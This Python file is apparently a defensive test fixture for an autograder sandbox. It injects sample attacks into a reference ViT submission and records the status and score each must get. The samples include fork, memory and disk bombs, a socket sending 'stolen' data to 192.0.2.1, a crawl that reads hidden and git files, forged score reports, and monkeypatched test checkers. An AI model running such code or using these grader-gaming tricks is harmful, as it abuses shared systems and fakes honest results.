"""The adversarial corpus: the reference with one attack injected, either at import time (in a
class body, which the loader keeps) or inside one forward pass (the public test that feeds a
batch of 4 images to the ViT). Each attack says what the report must show."""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

from tests.corpus.mutants import REFERENCE

IMPORT_AT = "class PatchEmbedding(nn.Module):\n"
FORWARD_AT = "        x = self.patch_embed(x)  # (B, N, D)\n"
TARGET_TEST = "the model returns logits, not softmax probabilities"
FULL_PUBLIC = 18.0


@dataclass(frozen=True)
class Attack:
    name: str
    where: str  # "import" or "forward"
    code: str
    status: str | None = None  # the target test's status (every test's, for import attacks)
    score: float | None = None  # the exact total the code earns on the public suite

    def source(self, **values: str) -> str:
        code = textwrap.dedent(self.code).strip("\n").format(**values)
        text = REFERENCE.read_text()
        if self.where == "import":
            return text.replace(IMPORT_AT, IMPORT_AT + textwrap.indent(code, "    ") + "\n", 1)
        guarded = "if x.shape[0] == 4:\n" + textwrap.indent(code, "    ")
        return text.replace(FORWARD_AT, textwrap.indent(guarded, "        ") + "\n" + FORWARD_AT, 1)


ATTACKS = [
    Attack("import_hang", "import", "while True:\n    pass", status="timeout", score=0),
    Attack("forward_hang", "forward", "while True:\n    pass", status="timeout", score=FULL_PUBLIC - 1),
    # Python memory, which the worker allocates as it exports (tensors there are fake until the runner runs them)
    Attack("memory_bomb", "forward", "hog = bytearray(2**33)", status="oom", score=FULL_PUBLIC - 1),  # address space
    Attack(
        "memory_creep", "forward", 'hog = [b"x" * (1 << 26) for _ in range(200)]', status="oom", score=FULL_PUBLIC - 1
    ),  # cgroup
    # A tensor too large for the runner to make: refused by shape propagation, before anything is allocated
    Attack("program_bomb", "forward", "x = x + torch.ones(2**31).sum()", status="failed", score=FULL_PUBLIC - 1),
    Attack(
        "fork_bomb",
        "forward",
        """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """,
        status="timeout",
        score=FULL_PUBLIC - 1,
    ),
    Attack(
        "disk_filler",
        "forward",
        """
        with open("filler.bin", "wb") as out:
            while True:
                out.write(b"0" * (1 << 20))
        """,
        status="error",
        score=FULL_PUBLIC - 1,  # RLIMIT_FSIZE: writes fail with EFBIG
    ),
    Attack("exit_at_import", "import", "import os as _os\n_os._exit(0)", status="crashed", score=0),
    Attack("sys_exit_in_forward", "forward", "import sys\nsys.exit(3)", status="error", score=FULL_PUBLIC - 1),
    Attack(
        "signals_ignored",
        "forward",
        """
        import signal
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            pass
        """,
        status="timeout",
        score=FULL_PUBLIC - 1,
    ),
    Attack(
        "double_fork_daemon",
        "import",
        """
        import os as _os
        if _os.fork() == 0:
            _os.setsid()
            if _os.fork() == 0:
                _os.execv("/usr/bin/sleep", ["sleep", "{daemon_seconds}"])
            _os._exit(0)
        """,
        score=FULL_PUBLIC,
    ),
    Attack(
        "stdout_flood",
        "forward",
        """
        import sys
        chunk = "x" * (1 << 20)
        for _ in range(2048):
            sys.stdout.write(chunk)
        """,
    ),
    Attack("segfault", "forward", "import ctypes\nctypes.string_at(0)", status="crashed", score=FULL_PUBLIC - 1),
    Attack(
        "fake_report",
        "import",
        """
        import json as _json, sys as _sys
        _fake = _json.dumps({{"score": 50, "max_score": 50, "tests": [{{"name": "all", "score": 50, "status": "passed"}}]}})
        print(_fake)
        print(_fake, file=_sys.stderr)
        """,
        score=FULL_PUBLIC,
    ),
    Attack(
        "fake_results_files",
        "import",
        """
        import os as _os
        for _path in ("results.json", "../results.json", "/autograder/results/results.json", "{grader_cwd}/results.json", "/tmp/results.json"):
            try:
                _os.makedirs(_os.path.dirname(_path) or ".", exist_ok=True)
                open(_path, "w").write('{{"score": 50}}')
            except OSError as _exc:
                print("could not write", _path, _exc)
        """,
        score=FULL_PUBLIC,
    ),
    Attack(
        "forged_channel",
        "import",
        """
        import json as _json, os as _os, struct as _struct
        _head = _json.dumps({{"ready": True, "names": [], "diagnostics": [], "torch": "x", "nonce": "guess"}}).encode()
        _frame = _struct.pack(">4sIQ", b"VGW1", len(_head), 0) + _head
        for _fd in range(3, 64):
            try:
                _os.write(_fd, _frame)
            except OSError:
                pass
        """,
        score=FULL_PUBLIC,
    ),
    Attack(
        "read_hidden_files",
        "import",
        """
        import os as _os
        for _top in ("..", "../test_cases", "../reference", "/autograder/source", "{course_root}", "/home", "/opt", "/tmp"):
            for _dir, _subdirs, _files in _os.walk(_top):
                _subdirs[:] = [d for d in _subdirs if d not in ("site-packages", "dist-packages", "__pycache__")]
                for _name in _files:
                    try:
                        print(_dir, _name, open(_os.path.join(_dir, _name), errors="replace").read()[:4000])
                    except OSError as _exc:
                        print("denied", _dir, _name, _exc)
        """,
        score=FULL_PUBLIC,
    ),
    Attack(
        "network",
        "import",
        """
        import socket as _socket
        for _address in (("127.0.0.1", {port}), ("192.0.2.1", 80)):
            try:
                _socket.create_connection(_address, timeout=2).sendall(b"stolen")
                print("CONNECTED", _address)
            except OSError as _exc:
                print("no connection to", _address, _exc)
        """,
        score=FULL_PUBLIC,
    ),
    Attack(
        "builtins_override",
        "import",
        """
        import builtins as _builtins
        _builtins.isinstance = lambda *args: True
        _builtins.len = lambda *args: 0
        """,
    ),
    Attack("huge_output", "forward", "return torch.zeros(64_000_000)", status="failed", score=FULL_PUBLIC - 1),
]

# Many files, each under the per-file limit, alternately in the working directory and {tmp}, up to
# 3 GiB: the disk quota must stop it. It prints what it has written after every file and when a write fails.
QUOTA_FILLER = Attack(
    "quota_filler",
    "forward",
    """
    import os
    written, block = 0, b"0" * (1 << 20)
    try:
        for i in range(384):
            with open(os.path.join("." if i % 2 else "{tmp}", "fill%d.bin" % i), "wb") as out:
                for _ in range(8):
                    out.write(block)
                    written += len(block)
            print("WRITTEN", written, flush=True)
    except OSError as exc:
        print("WRITTEN", written, "then", exc, flush=True)
        raise
    """,
    status="error",
    score=FULL_PUBLIC - 1,
)

# Lists every file under {roots} with os.walk, adds {guesses} (paths it cannot list), reads each and
# every zlib stream in it (git's loose objects and packs), and prints the planted markers it finds.
THIEF = Attack(
    "checkout_thief",
    "import",
    """
    import os as _os, re as _re, zlib as _zlib
    _paths = list({guesses})
    for _top in {roots}:
        for _dir, _subdirs, _files in _os.walk(_top):
            _subdirs[:] = [d for d in _subdirs if d not in ("site-packages", "dist-packages", "__pycache__")]
            for _name in _files:  # a loop: a comprehension in a class body cannot see _os or _dir
                _paths.append(_os.path.join(_dir, _name))
    _read, _found = 0, set()
    for _path in _paths:
        try:
            with open(_path, "rb") as _file:
                _data = _file.read(1 << 22)
        except OSError:
            continue
        _read += 1
        _texts = [_data]
        for _match in _re.finditer(rb"\\x78[\\x01\\x5e\\x9c\\xda]", _data):
            try:
                _texts.append(_zlib.decompressobj().decompress(memoryview(_data)[_match.start() :], 1 << 16))
            except _zlib.error:
                pass
        for _text in _texts:
            _found.update(_hit.group().decode() for _hit in _re.finditer(rb"(vitgrade|thief)-sentinel:? [\\w-]+", _text))
    print("THIEF READ", _read, "OF", len(_paths), "FILES")
    for _hit in sorted(_found):
        print("FOUND", _hit)
    """,
    score=FULL_PUBLIC,
)

# Checker monkeypatching on top of a real bug: the score must equal the bug's honest score.
MONKEYPATCH = """
torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
"""
NAN_FLOOD = 'return torch.full(q.shape[:-1] + v.shape[-1:], float("nan")), torch.full(q.shape[:-1] + k.shape[-2:-1], float("inf"))'
